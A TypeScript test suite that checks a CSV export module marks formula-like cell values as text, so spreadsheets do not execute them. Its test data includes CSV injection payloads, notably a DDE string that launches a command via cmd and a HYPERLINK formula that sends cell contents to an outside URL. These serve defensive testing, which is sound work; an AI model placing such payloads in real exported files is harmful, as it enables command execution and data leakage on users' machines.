import {existsSync, readdirSync, readFileSync} from "node:fs";
import {parse} from "csv-parse/sync";
import fc from "fast-check";
import {describe, expect, test} from "vitest";
import {isFormula} from "../../dashboard/src/components/formula.js";
import {type DialectName, dialectNames, dialects, formatNumber, formatText} from "./dialects.js";

test.each([
  "=1+1",
  "+34600111222",
  "-2+3+cmd|' /C calc'!A0",
  "- hola",
  "-",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  '"=1+1"',
  "'=1+1",
  ' " =1+1',
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u0000=1+1",
  "“=1+1”",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "﹦1",
  '=HYPERLINK("http://example.com?"&A1,"click")'
])("a spreadsheet would run %j, so it is marked as text", (value) => {
  expect(isFormula(value)).toBe(true);
  for (const name of dialectNames) expect(formatText(value, dialects[name])).toMatch(/^"?'/);
});

test.each(["", " ", "Hola", "a=b", "5", "-5", "-5.25", "-5,25", "-1e5", "«Hola»", "'80s", "José", "12:30", "1-2"])(
  "%j stays as it is",
  (value) => {
    expect(isFormula(value)).toBe(false);
    expect(formatText(value, dialects.plain)).toBe(value.includes(",") ? `"${value}"` : value);
  }
);

test("Excel gets ids of more than 15 digits as text, and everybody else as they are", () => {
  expect(formatText("1234567890123456", dialects["excel-es"])).toBe("'1234567890123456");
  expect(formatText("1234567890123456", dialects["excel-en"])).toBe("'1234567890123456");
  expect(formatText("1234567890123456", dialects.plain)).toBe("1234567890123456");
  expect(formatText("123456789012345", dialects["excel-es"])).toBe("123456789012345");
  expect(formatNumber("1234567890123456", dialects["excel-es"])).toBe("'1234567890123456");
});

test.each(["0034600111222", "007", "-01", "12e5", "3E10", "01,50"])(
  "Excel gets the text %j as text, as the number would be written otherwise",
  (value) => {
    expect(formatText(value, dialects["excel-es"])).toMatch(`'${value}`);
    expect(formatText(value, dialects.plain)).not.toContain("'");
  }
);

test.each(["0", "0.5", "7", "12e", "e5", "07/05/2020", "09:30"])("%j needs no mark in Excel", (value) => {
  expect(formatText(value, dialects["excel-es"])).toBe(value);
});

test("the decimal mark is the dialect's, in numbers only", () => {
  expect(formatNumber("-1234.5", dialects["excel-es"])).toBe("-1234,5");
  expect(formatNumber("-1234.5", dialects["excel-en"])).toBe("-1234.5");
  expect(formatText("1.5", dialects["excel-es"])).toBe("1.5");
});

test("a separator of another region is quoted for Excel, and the plain dialect quotes only what it must", () => {
  expect(formatText("hola;a=1", dialects["excel-en"])).toBe('"hola;a=1"');
  expect(formatText("hola,a=1", dialects["excel-es"])).toBe('"hola,a=1"');
  expect(formatText("hola;a=1", dialects.plain)).toBe("hola;a=1");
});

test.each<[DialectName, string, string]>([
  ["plain", "hola;=1+1;adiós", "hola;'=1+1;adiós"],
  ["plain", "hola,=1+1,adiós", '"hola,=1+1,adiós"'],
  ["plain", "hola\t=1+1", "hola\t'=1+1"],
  ["plain", ";-5", ";'-5"],
  ["excel-en", "hola;=1+1;adiós", `"hola;'=1+1;adiós"`],
  ["excel-en", "hola,=1+1", '"hola,=1+1"'],
  ["excel-es", "hola,=1+1,adiós", `"hola,'=1+1,adiós"`],
  ["excel-es", "hola;=1+1", '"hola;=1+1"'],
  ["excel-es", 'a, "=1+1"', `"a,' ""=1+1"""`],
  ["excel-es", "1,5 y -2, ya", '"1,5 y -2, ya"'],
  ["excel-es", "a,,＝1", `"a,,'＝1"`]
])("in the %s dialect %j is marked where another separator begins a cell: %j", (name, value, written) => {
  expect(formatText(value, dialects[name])).toBe(written);
});

test.each(dialectNames)(
  "a line within a text may begin a cell in the %s dialect, whatever ends the line before",
  (name) => {
    for (const end of ["\n", "\r", "\r\n"]) {
      expect(formatText(`hola${end}=1+1`, dialects[name])).toBe(`"hola${end}'=1+1"`);
      expect(formatText(`hola${end}${end}adiós`, dialects[name])).toBe(`"hola${end}${end}adiós"`);
    }
  }
);

const text = fc.oneof(
  fc.string({unit: "binary"}),
  fc.string({
    unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", '"', "'", ",", ";", " ", "1", ".", "＝", "ñ", "\u200b")
  }),
  fc.bigInt().map(String)
);

describe.each(dialectNames)("dialect %s", (name) => {
  const dialect = dialects[name];
  const read = (file: string): string[][] =>
    parse(file, {
      delimiter: dialect.delimiter,
      record_delimiter: dialect.lineEnding,
      relax_column_count: false,
      bom: false
    });

  test("any text comes back as it was, or with the mark before it and after the separators of others", () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text, text), {minLength: 1}), (rows) => {
        const file = rows
          .map((row) => row.map((value) => formatText(value, dialect)).join(dialect.delimiter) + dialect.lineEnding)
          .join("");
        const expected = rows.map((row) => row.map((value) => marked(value)));
        expect(read(file)).toEqual(expected);
      }),
      {numRuns: 2000}
    );
  });

  test("no text comes back as a formula", () => {
    fc.assert(
      fc.property(text, (value) => {
        const [[cell]] = read(`${formatText(value, dialect)}${dialect.delimiter}x${dialect.lineEnding}`) as [[string]];
        const start = cell.replace(/^[\s"\u200b\ufeff]+/, "");
        expect(/^[=@＝＠+＋]/.test(start)).toBe(false);
        if (/^[-－]/.test(start)) expect(cell).toMatch(/^-\d/);
      }),
      {numRuns: 2000}
    );
  });

  test("no cell begins as a formula where a spreadsheet splits elsewhere and knows no quotes", () => {
    const others = [";", ",", "\t"].filter((separator) => separator !== dialect.delimiter);
    fc.assert(
      fc.property(text, fc.subarray(others, {minLength: 1}), (value, separators) => {
        const line = ["a", formatText(value, dialect), formatText(value, dialect)].join(dialect.delimiter);
        for (const cell of line.split(new RegExp(`[${separators.join("")}\r\n]`))) {
          expect(cell).not.toMatch(/^[\s"\u200b\ufeff]*[=+\-@＝]/);
        }
      }),
      {numRuns: 2000}
    );
  });

  function marked(value: string): string {
    const isChanged = name !== "plain" && /^\s*-?(\d{16,}|0\d+([.,]\d+)?|\d+([.,]\d+)?[eE][+-]?\d+)\s*$/.test(value);
    const parts = value.split(/(?<=[;,\t\r\n])/).map((part, index, all) => {
      const isElsewhere = index > 0 && !all[index - 1]!.endsWith(dialect.delimiter);
      return isElsewhere && isFormula(`${part.replace(/[;,\t\r\n]$/, "")}x`) ? `'${part}` : part;
    });
    return (isFormula(value) || isChanged ? "'" : "") + parts.join("");
  }
});

const fixtures = "../shared/fixtures";

test.skipIf(!existsSync(fixtures))("every known attack is marked as text, and every naughty text comes back", () => {
  const attacks = readLines(`${fixtures}/hostile-csv-injection`);
  const naughty = readLines(`${fixtures}/hostile-blns`);
  expect(attacks.filter(isFormula).length).toBeGreaterThanOrEqual(5);
  for (const value of [...attacks, ...naughty]) {
    for (const name of dialectNames) {
      const cell = formatText(value, dialects[name]);
      if (/^[\s"']*[=+@＝＋＠]/.test(value)) expect(cell).toMatch(/^"?'/);
      const [[back]] = parse(`${cell}${dialects[name].delimiter}x\n`, {delimiter: dialects[name].delimiter}) as [
        [string]
      ];
      expect(back.replaceAll("'", "")).toBe(value.replaceAll("'", ""));
    }
  }
});

function readLines(folder: string): string[] {
  return readdirSync(folder, {recursive: true, encoding: "utf8"})
    .filter((name) => /\.(txt|csv|json)$/.test(name))
    .flatMap((name) => readFileSync(`${folder}/${name}`, "utf8").split("\n"))
    .filter((line) => line !== "");
}
